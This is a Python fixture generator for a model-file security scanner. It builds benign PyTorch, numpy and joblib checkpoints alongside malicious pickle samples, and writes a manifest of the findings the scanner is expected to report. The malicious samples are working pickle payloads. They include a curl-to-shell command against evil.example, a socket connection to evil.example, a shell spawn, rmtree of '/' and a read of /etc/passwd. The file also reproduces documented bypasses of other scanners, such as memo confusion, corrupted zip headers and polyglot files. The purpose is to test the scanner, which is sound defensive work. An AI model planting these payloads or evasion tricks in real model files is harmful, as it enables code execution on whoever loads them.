#!/usr/bin/env python3
"""Fixture generator for the Lantern model scanner (standard library only).

Writes benign checkpoints shaped like real ones and malicious samples (each dangerous callable
family, the documented bypasses of peer scanners, polyglots, every container format) into the
directory given as argv[1], plus `manifest.json` listing for each file the expected outcome:

    {"file": ..., "expect": "critical"|"high"|"medium"|"clean", "rule": ..., "detail": ...}

`expect` is the highest severity Lantern must report ("clean" = nothing above info); `rule`
(optional) must be among the findings at that severity; `detail` (optional) must appear in the
detail of such a finding. Nothing here is ever unpickled.
"""

import collections
import io
import json
import os
import pickle
import pickletools
import struct
import sys
import tarfile
import types
import zipfile
import zlib

OUT = sys.argv[1]
MANIFEST = []


def emit(name, data, expect, rule=None, detail=None, note=""):
    path = os.path.join(OUT, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    MANIFEST.append({"file": name, "expect": expect, "rule": rule, "detail": detail, "note": note})


def U(text):
    """SHORT_BINUNICODE of text."""
    b = text.encode()
    return b"\x8c" + bytes([len(b)]) + b


def check(p):
    """Make sure a hand-written pickle is made of valid opcodes (up to the first STOP)."""
    out = io.StringIO()
    pickletools.dis(p, out=out)
    return p


# ---------------------------------------------------------------------------------------------
# Fake torch / numpy modules so that the stdlib pickler writes the same globals real checkpoints
# contain (torch itself is far too big to install here). Objects are only ever pickled.

def fake_module(name):
    parts = name.split(".")
    for i in range(1, len(parts) + 1):
        n = ".".join(parts[:i])
        if n not in sys.modules:
            sys.modules[n] = types.ModuleType(n)
            if i > 1:
                setattr(sys.modules[".".join(parts[: i - 1])], parts[i - 1], sys.modules[n])
    return sys.modules[name]


def fake_func(module, qualname):
    m = fake_module(module)

    def f(*a, **k):
        raise RuntimeError("fixture stand-in, never called")

    f.__module__ = module
    f.__qualname__ = qualname
    f.__name__ = qualname
    setattr(m, qualname, f)
    return f


def fake_class(module, qualname):
    m = fake_module(module)
    cls = type(qualname, (), {})
    cls.__module__ = module
    cls.__qualname__ = qualname
    setattr(m, qualname, cls)
    return cls


rebuild_tensor_v2 = fake_func("torch._utils", "_rebuild_tensor_v2")
rebuild_parameter = fake_func("torch._utils", "_rebuild_parameter")
FloatStorage = fake_class("torch", "FloatStorage")
HalfStorage = fake_class("torch", "HalfStorage")
np_reconstruct = fake_func("numpy.core.multiarray", "_reconstruct")
np_ndarray = fake_class("numpy", "ndarray")
np_dtype = fake_class("numpy", "dtype")


class Storage:
    def __init__(self, key, cls, numel):
        self.key, self.cls, self.numel = key, cls, numel


class Tensor:
    def __init__(self, storage, shape, param=False):
        self.storage, self.shape, self.param = storage, shape, param

    def __reduce__(self):
        stride = []
        acc = 1
        for d in reversed(self.shape):
            stride.insert(0, acc)
            acc *= d
        t = (rebuild_tensor_v2, (self.storage, 0, tuple(self.shape), tuple(stride), False,
                                 collections.OrderedDict()))
        if self.param:
            class P:
                def __reduce__(s):
                    return (rebuild_parameter, (self.storage_tensor(), True, collections.OrderedDict()))
            return P().__reduce__()
        return t

    def storage_tensor(self):
        return Tensor(self.storage, self.shape)


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            return ("storage", obj.cls, obj.key, "cpu", obj.numel)
        return None


def torch_state_dict(n_layers=3, param=False):
    sd = collections.OrderedDict()
    storages = []
    for i in range(n_layers):
        w = Storage(str(2 * i), FloatStorage, 16 * 8)
        b = Storage(str(2 * i + 1), FloatStorage, 16)
        storages += [w, b]
        sd["layers.%d.weight" % i] = Tensor(w, [16, 8], param)
        sd["layers.%d.bias" % i] = Tensor(b, [16], param)
    return sd, storages


def torch_pickle(obj, protocol=2):
    buf = io.BytesIO()
    TorchPickler(buf, protocol=protocol).dump(obj)
    return buf.getvalue()


def torch_zip(data_pkl, storages, name="archive", compress=zipfile.ZIP_STORED, extra=()):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compress) as z:
        z.writestr(name + "/data.pkl", data_pkl)
        z.writestr(name + "/byteorder", "little")
        for s in storages:
            z.writestr(name + "/data/" + s.key, b"\x00\x00\x80\x3f" * s.numel)
        z.writestr(name + "/version", "3\n")
        z.writestr(name + "/.data/serialization_id", "1234567890")
        for n, d in extra:
            z.writestr(n, d)
    return buf.getvalue()


# ---------------------------------------------------------------------------------------------
# Malicious payload builders

class Reduce:
    """An object whose pickle calls func(*args) on load."""

    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return (self.func, self.args)


def g(module, name):
    """A GLOBAL reference to module.name without importing it: a stand-in with that identity."""
    return fake_func(module, name) if "." not in name else None


def reduce_pickle(module, name, args, protocol=2):
    f = sys.modules[module].__dict__.get(name) if module in sys.modules else None
    if f is None or module in ("os", "posix", "builtins", "subprocess", "socket", "shutil",
                               "webbrowser", "runpy", "importlib", "operator", "functools",
                               "pydoc", "pty", "code", "marshal", "types", "sys"):
        # Hand-written protocol 2 stream: GLOBAL module name, args tuple, REDUCE.
        body = b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\n"
        body += pickle.dumps(args, protocol=2)[2:-1]
        return check(body + b"R.")
    return pickle.dumps(Reduce(f, args), protocol=protocol)


CMD = "curl -s https://evil.example/x | sh"


def main():
    os.makedirs(OUT, exist_ok=True)

    # ---- benign ------------------------------------------------------------------------------
    sd, st = torch_state_dict()
    emit("benign/torch_state_dict.pt", torch_zip(torch_pickle(sd), st), "clean",
         note="torch zip: OrderedDict + _rebuild_tensor_v2 + FloatStorage persistent ids")
    emit("benign/pytorch_model.bin", torch_zip(torch_pickle(sd, protocol=4), st, name="pytorch_model"),
         "clean", note="HF-style .bin torch zip, protocol 4")
    emit("benign/deflated.pth", torch_zip(torch_pickle(sd), st, compress=zipfile.ZIP_DEFLATED),
         "clean", note="deflate-compressed members")
    sdp, stp = torch_state_dict(param=True)
    emit("benign/params.ckpt", torch_zip(torch_pickle({"state_dict": sdp, "epoch": 3,
                                                       "lr": 1e-3}), stp), "clean")
    for proto in range(0, 6):
        emit("benign/plain_p%d.pkl" % proto,
             pickle.dumps({"a": [1, 2.5, "x", None, True], "b": (b"bytes", {1, 2}),
                           "c": collections.OrderedDict(k=1)}, protocol=proto),
             "clean", note="plain containers, protocol %d" % proto)
    nd = Reduce(np_reconstruct, (np_ndarray, (0,), b"b"))
    emit("benign/numpy_like.pkl", pickle.dumps([nd, Reduce(np_dtype, ("f4", False, True))], protocol=2),
         "clean", note="numpy reconstruction globals")
    # legacy torch (non-zip): five chained pickles then raw storage bytes
    legacy = io.BytesIO()
    for obj in (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True,
                                               "type_sizes": {"short": 2, "int": 4, "long": 4}}):
        pickle.dump(obj, legacy, protocol=2)
    TorchPickler(legacy, protocol=2).dump(sd)
    pickle.dump([s.key for s in st], legacy, protocol=2)
    for s in st:
        legacy.write(struct.pack("<q", s.numel) + b"\x00\x00\x80\x3f" * s.numel)
    emit("benign/legacy.pt", legacy.getvalue(), "clean", note="legacy torch chained pickles + raw data")
    # legacy torch tar
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for n, d in (("sys_info", pickle.dumps({"little_endian": True}, protocol=2)),
                     ("pickle", torch_pickle(sd)),
                     ("storages", pickle.dumps(0, protocol=2)),
                     ("tensors", pickle.dumps(0, protocol=2))):
            ti = tarfile.TarInfo(n)
            ti.size = len(d)
            t.addfile(ti, io.BytesIO(d))
    emit("benign/legacy_tar.pt", tbuf.getvalue(), "clean")
    emit("benign/weights.npy", npy("<f4", (4, 4), b"\x00" * 64), "clean")
    emit("benign/arrays.npz", zip_of([("w.npy", npy("<f4", (2, 2), b"\x00" * 16)),
                                      ("b.npy", npy("<i8", (3,), b"\x00" * 24))]), "clean")
    emit("benign/model.joblib", zlib.compress(pickle.dumps({"coef": [0.1, 0.2]}, protocol=4)),
         "clean", note="zlib-compressed joblib of plain data")

    # ---- dangerous callables, one per family ----------------------------------------------------
    fam = [
        ("os", "system", (CMD,)),
        ("posix", "system", (CMD,)),
        ("nt", "system", (CMD,)),
        ("subprocess", "Popen", (["sh", "-c", CMD],)),
        ("subprocess", "check_output", (CMD,)),
        ("builtins", "eval", ("__import__('os').system('id')",)),
        ("builtins", "exec", ("import os; os.system('id')",)),
        ("builtins", "compile", ("x", "f", "exec")),
        ("builtins", "__import__", ("os",)),
        ("builtins", "open", ("/etc/passwd",)),
        ("runpy", "_run_code", ("import os", {})),
        ("runpy", "run_path", ("/tmp/x.py",)),
        ("importlib", "import_module", ("os",)),
        ("pty", "spawn", ("/bin/sh",)),
        ("socket", "create_connection", (("evil.example", 4444),)),
        ("shutil", "rmtree", ("/",)),
        ("webbrowser", "open", ("https://evil.example",)),
        ("pip", "main", (["install", "evilpkg"],)),
        ("torch", "load", ("/tmp/other.pt",)),
        ("torch.hub", "load", ("evil/repo", "model")),
        ("torch.jit", "load", ("/tmp/x.pt",)),
        ("numpy", "load", ("/tmp/x.npy", None, True)),
        ("operator", "attrgetter", ("system",)),
        ("operator", "methodcaller", ("system", CMD)),
        ("functools", "partial", ("x",)),
        ("pydoc", "locate", ("os.system",)),
        ("code", "interact", ()),
        ("marshal", "loads", (b"\xe3",)),
        ("types", "FunctionType", (None, {})),
        ("sys", "exit", (1,)),
        ("ctypes", "CDLL", ("libc.so.6",)),
        ("asyncio.subprocess", "create_subprocess_shell", (CMD,)),
        ("__builtin__", "eval", ("1",)),
        ("commands", "getoutput", ("id",)),
    ]
    for module, name, args in fam:
        body = b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\n"
        body += pickle.dumps(args, protocol=2)[2:-1] + b"R."
        emit("malicious/call_%s_%s.pkl" % (module.replace(".", "_"), name), check(body), "critical",
             rule="pickle.dangerous-call", detail=None)
    # the reconstructed call is shown with its literal arguments
    MANIFEST[-len(fam)]["detail"] = 'os.system("curl -s https://evil.example/x | sh")'

    # ---- opcode variants --------------------------------------------------------------------------
    emit("malicious/p0_global_reduce.pkl", check(b"cos\nsystem\n(S'id'\ntR."), "critical",
         rule="pickle.dangerous-call", detail='os.system("id")')
    emit("malicious/p0_inst.pkl", check(b"(S'id'\nios\nsystem\n."), "critical",
         rule="pickle.dangerous-call", detail='os.system("id")', note="INST opcode")
    emit("malicious/p1_obj.pkl", check(b"(cos\nsystem\nU\x02ido."), "critical",
         rule="pickle.dangerous-call", detail='os.system("id")', note="OBJ opcode")
    emit("malicious/p2_newobj.pkl",
         check(b"\x80\x02csubprocess\nPopen\n]X\x02\x00\x00\x00ida\x85}\x86\x81."), "critical",
         rule="pickle.dangerous-call", note="NEWOBJ")
    emit("malicious/p4_newobj_ex.pkl",
         check(b"\x80\x04" + U("subprocess") + U("Popen") + b"\x93" + U("id") + b"\x85}\x92."), "critical",
         rule="pickle.dangerous-call", note="NEWOBJ_EX + STACK_GLOBAL")
    # STACK_GLOBAL operands from the memo, with decoys pushed and popped (memo tricks)
    emit("malicious/p4_memo_stack_global.pkl",
         check(b"\x80\x04\x95\x30\x00\x00\x00\x00\x00\x00\x00"
               b"\x8c\x02os\x94\x8c\x06system\x94\x8c\x05numpy\x94000"
               b"h\x00h\x01\x93\x8c\x02id\x85R."), "critical",
         rule="pickle.dangerous-call", detail='os.system("id")', note="STACK_GLOBAL from memo")
    # dotted qualname (protocol 4 getattr walk)
    emit("malicious/p4_dotted_name.pkl",
         check(b"\x80\x04" + U("builtins") + U("getattr.__call__") + b"\x93."), "critical",
         rule="pickle.dangerous-call")
    emit("malicious/p4_torch_dotted.pkl",
         check(b"\x80\x04" + U("torch") + U("serialization.load") + b"\x93" + U("x.pth") + b"\x85R."),
         "critical", rule="pickle.dangerous-call")
    # getattr chain: getattr(__import__('os'), 'system')('id')
    emit("malicious/getattr_chain.pkl",
         check(b"\x80\x02cbuiltins\ngetattr\ncbuiltins\n__import__\nX\x02\x00\x00\x00os\x85R"
               b"X\x06\x00\x00\x00system\x86RX\x02\x00\x00\x00id\x85R."), "critical",
         rule="pickle.dangerous-call", detail='builtins.getattr(builtins.__import__("os"), "system")')
    # computed module name: STACK_GLOBAL operands are a call result
    emit("malicious/unresolved_stack_global.pkl",
         check(b"\x80\x04" + U("builtins") + U("str") + b"\x93" + U("os") + b"\x85R" + U("system") + b"\x93."),
         "critical", rule="pickle.unresolved-global")
    emit("malicious/ext_opcode.pkl", check(b"\x80\x02\x82\x01X\x02\x00\x00\x00id\x85R."), "high",
         rule="pickle.extension-code")
    emit("malicious/unknown_global.pkl", pickle.dumps(Reduce(fake_func("mymodels.net", "build"), (3,))),
         "high", rule="pickle.unknown-global", detail='mymodels.net.build(3)')
    # broken pickle: the payload runs before the loader hits the bad opcode
    emit("malicious/broken_after_payload.pkl", b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R\xff\xfe",
         "critical", rule="pickle.dangerous-call", note="broken tail (picklescan bypass)")
    emit("malicious/truncated_no_stop.pkl", b"cos\nsystem\n(S'id'\ntR", "critical",
         rule="pickle.dangerous-call", note="no STOP")
    # second pickle in the stream carries the payload
    emit("malicious/second_pickle.pkl",
         pickle.dumps({"ok": 1}, protocol=2) + b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R.",
         "critical", rule="pickle.dangerous-call", note="payload in a chained pickle")
    # pickle nested inside bytes (torch.storage._load_from_bytes carries a pickle)
    inner = b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R."
    emit("malicious/nested_in_bytes.pkl",
         check(b"\x80\x03ctorch.storage\n_load_from_bytes\nC" + bytes([len(inner)]) + inner + b"\x85R."),
         "critical", rule="pickle.dangerous-call", note="pickle inside a bytes argument")
    # protocol 5 framing and bytearray8
    emit("malicious/p5_frame.pkl",
         check(b"\x80\x05\x95\x20\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x8c\x06system\x93"
               b"\x96\x02\x00\x00\x00\x00\x00\x00\x00id\x85R."), "critical",
         rule="pickle.dangerous-call")
    # extension tricks: a pickle named like something else
    payload = reduce_pickle("os", "system", (CMD,))
    emit("malicious/pytorch_model.bin", payload, "critical", rule="pickle.dangerous-call",
         note=".bin legacy pickle")
    emit("malicious/weights.txt", payload, "critical", rule="pickle.dangerous-call",
         note="found by magic, not extension")

    # ---- documented peer-scanner bypasses -------------------------------------------------------
    # picklescan#14: memo confusion mixing BINPUT and MEMOIZE (scanner thinks memo[0] is safe)
    emit("malicious/memo_confusion.pkl",
         check(b"\x80\x04" + U("os") + b"q\x00" + U("system") + b"q\x01" + U("torch._utils") + b"\x94"
               + U("_rebuild_tensor_v2") + b"\x940000h\x00h\x01\x93" + U("id") + b"\x85R."),
         "critical", rule="pickle.dangerous-call", detail='os.system("id")')
    # modelscan#85: BUILD sets attributes on numpy.prod, then dotted GLOBALs fetch them back
    emit("malicious/build_on_global.pkl",
         check(b"\x80\x05cnumpy\nprod\nN(Va\nVos\ndb0"
               b"cnumpy\nprod.a\np0\n0cnumpy\nprod.b\np1\n0g0\ng1\n\x93Vecho pwned\n\x85R."
               .replace(b"db0", b"d\x86b0")),
         "critical", rule="pickle.global-mutation")
    # GHSA-vvpj-8cmc-gx39: pkgutil.resolve_name reaches any callable
    emit("malicious/pkgutil_resolve_name.pkl",
         check(b"\x80\x02cpkgutil\nresolve_name\nX\t\x00\x00\x00os:system\x85R"
               b"X\x02\x00\x00\x00id\x85R."),
         "critical", rule="pickle.dangerous-call", detail='pkgutil.resolve_name("os:system")')
    # importlib.util chain and submodule names missing from exact-match denylists
    emit("malicious/importlib_util.pkl",
         check(b"\x80\x02cimportlib.util\nfind_spec\nX\x02\x00\x00\x00os\x85R."),
         "critical", rule="pickle.dangerous-call")
    emit("malicious/asyncio_submodule.pkl",
         check(b"\x80\x02casyncio.unix_events\n_UnixSubprocessTransport\n)R."),
         "critical", rule="pickle.dangerous-call")
    # operator.getitem on a defaultdict whose factory runs code (modelaudit bypass game)
    emit("malicious/operator_getitem.pkl",
         check(b"\x80\x02c_operator\ngetitem\nccollections\ndefaultdict\ncos\ngetcwd\n\x85R"
               b"X\x01\x00\x00\x00k\x86R."),
         "critical", rule="pickle.dangerous-call")
    # a torch zip hidden in a bytes value handed to torch.storage._load_from_bytes
    sd0, st0 = torch_state_dict(1)
    inner_zip = torch_zip(torch_pickle(sd0)[:-1] + b"0cos\nsystem\nX\x02\x00\x00\x00id\x85R.", st0)
    emit("malicious/zip_in_bytes.pkl",
         check(b"\x80\x03ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(inner_zip))
               + inner_zip + b"\x85R."),
         "critical", rule="pickle.dangerous-call", note="torch zip inside a bytes argument")

    # ---- containers -----------------------------------------------------------------------------
    sd, st = torch_state_dict()
    # drop STOP, POP the state dict and append a payload
    evil = torch_pickle(sd)[:-1] + b"0cos\nsystem\nX\x02\x00\x00\x00id\x85R."
    check(evil)
    emit("malicious/torch_zip.pt", torch_zip(evil, st), "critical", rule="pickle.dangerous-call",
         detail='os.system("id")')
    z = torch_zip(evil, st)
    emit("malicious/torch_zip_encrypted_flag.pt", set_zip_flags(z, 0x0001), "critical",
         rule="pickle.dangerous-call", note="general-purpose flag bit 0 set (zip flag bypass)")
    emit("malicious/torch_zip_broken_cd.pt", break_central_directory(z), "critical",
         rule="pickle.dangerous-call", note="central directory corrupted; torch reads local headers")
    emit("malicious/torch_zip_other_pkl.pt",
         torch_zip(torch_pickle(sd), st, extra=[("archive/extra.pkl", payload)]), "critical",
         rule="pickle.dangerous-call", note="payload in a second .pkl member")
    emit("malicious/polyglot_pickle_zip.pt", payload + torch_zip(torch_pickle(sd), st), "critical",
         rule="pickle.dangerous-call", note="pickle followed by a benign torch zip")
    emit("malicious/zip_prefix_pickle.bin", payload + zip_of([("readme.txt", b"hi")]), "critical",
         rule="pickle.dangerous-call")
    legacy = io.BytesIO()
    for obj in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}):
        pickle.dump(obj, legacy, protocol=2)
    legacy.write(reduce_pickle("os", "system", ("id",)))
    emit("malicious/legacy_chained.pt", legacy.getvalue(), "critical", rule="pickle.dangerous-call")
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for n, d in (("sys_info", pickle.dumps({"little_endian": True}, protocol=2)),
                     ("pickle", payload), ("storages", pickle.dumps(0, protocol=2))):
            ti = tarfile.TarInfo(n)
            ti.size = len(d)
            t.addfile(ti, io.BytesIO(d))
    emit("malicious/legacy_tar.pt", tbuf.getvalue(), "critical", rule="pickle.dangerous-call")
    emit("malicious/object_array.npy", npy("|O", (1,), payload), "critical",
         rule="pickle.dangerous-call", note="object dtype .npy")
    emit("malicious/arrays.npz", zip_of([("w.npy", npy("<f4", (2,), b"\x00" * 8)),
                                         ("evil.npy", npy("|O", (1,), payload))]), "critical",
         rule="pickle.dangerous-call")
    emit("malicious/model.joblib", zlib.compress(payload), "critical", rule="pickle.dangerous-call",
         note="zlib-compressed joblib")
    emit("malicious/torch_zip_bad_crc.pt", corrupt_crc(torch_zip(evil, st)), "critical",
         rule="pickle.dangerous-call", note="wrong CRC-32: zipfile refuses, torch does not check")
    emit("malicious/nested_zip.pt", zip_of([("inner/model.pt", torch_zip(evil, st))]), "critical",
         rule="pickle.dangerous-call", note="torch zip inside a zip")

    import formats_fixtures  # noqa: E402  (other formats, same directory)
    formats_fixtures.generate(emit)

    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump(MANIFEST, f, indent=1)


def npy(descr, shape, data):
    d = "{'descr': '%s', 'fortran_order': False, 'shape': %s, }" % (descr, repr(tuple(shape)))
    h = d.encode()
    pad = 64 - (10 + len(h) + 1) % 64
    h += b" " * (pad % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + data


def zip_of(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for n, d in members:
            z.writestr(n, d)
    return buf.getvalue()


def set_zip_flags(z, flags):
    """Set general-purpose flags in every local and central header."""
    b = bytearray(z)
    i = 0
    while True:
        i = b.find(b"PK\x03\x04", i)
        if i < 0:
            break
        struct.pack_into("<H", b, i + 6, struct.unpack_from("<H", b, i + 6)[0] | flags)
        i += 4
    i = 0
    while True:
        i = b.find(b"PK\x01\x02", i)
        if i < 0:
            break
        struct.pack_into("<H", b, i + 8, struct.unpack_from("<H", b, i + 8)[0] | flags)
        i += 4
    return bytes(b)


def corrupt_crc(z):
    """Flip the CRC-32 of every member in local and central headers."""
    b = bytearray(z)
    for sig, off in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        i = 0
        while True:
            i = b.find(sig, i)
            if i < 0:
                break
            b[i + off] ^= 0xFF
            i += 4
    return bytes(b)


def break_central_directory(z):
    """Overwrite the central directory signatures so only local headers remain readable."""
    b = bytearray(z)
    cd = b.find(b"PK\x01\x02")
    b[cd:cd + 4] = b"XX\x01\x02"
    return bytes(b)


if __name__ == "__main__":
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    main()
